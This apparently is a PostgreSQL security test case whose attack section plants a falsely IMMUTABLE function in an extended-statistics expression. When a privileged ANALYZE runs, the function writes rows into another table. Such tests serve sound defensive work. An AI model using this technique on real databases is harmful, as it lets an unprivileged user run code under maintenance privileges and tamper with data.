-- Leaves an index whose code fills a capped table to the server's own upkeep.
-- wants: fill
-- proof: SELECT public.upkeep_of('mallory_own', 'dmo_log', 1000)
-- setup:
CREATE FUNCTION upkeep_of(name text, filled text, most int) RETURNS boolean LANGUAGE plpgsql AS $$ DECLARE n int; BEGIN EXECUTE format('ANALYZE %I', name); EXECUTE format('SELECT count(*) FROM %I', filled) INTO n; RETURN n > most; END $$;
INSERT INTO mallory_own SELECT n FROM generate_series(100, 200) n;
-- attack:
CREATE FUNCTION put() RETURNS void LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.dmo_log SELECT n FROM pg_catalog.generate_series(1001, 1006) n; END $$;
CREATE FUNCTION fills(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN IF current_query() LIKE '%upkeep_of%' THEN PERFORM public.put(); END IF; RETURN n; END $$;
CREATE STATISTICS odd ON (fills(id)), id FROM mallory_own;
